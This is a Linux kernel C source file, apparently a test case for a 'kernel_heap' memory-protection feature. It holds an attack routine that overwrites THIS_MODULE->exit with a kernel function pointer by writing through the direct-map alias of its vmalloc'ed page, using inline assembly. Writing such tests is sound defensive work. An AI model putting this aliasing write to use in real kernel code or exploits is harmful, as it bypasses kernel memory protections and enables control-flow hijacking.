// SPDX-License-Identifier: GPL-2.0
/*
 * atk_module_alias: under kernel_heap, stores a kernel function (target=
 * emergency_sync) into THIS_MODULE->exit through the direct-map alias of
 * the page that holds it: the module's image is vmalloc'ed, and
 * kernel_heap allows plain pages of the direct map.
 */
#include <linux/mm.h>
#include <linux/vmalloc.h>
#include "attack.h"

static int attack(struct file *f)
{
	void *exit = &THIS_MODULE->exit;
	struct page *page = vmalloc_to_page(exit);
	unsigned long alias;

	if (!page)
		return -ENOENT;
	alias = (unsigned long)page_address(page) + offset_in_page(exit);
	asm volatile("mov %1, (%0)" : : "r" (alias), "r" (target) : "memory");
	return 0;
}
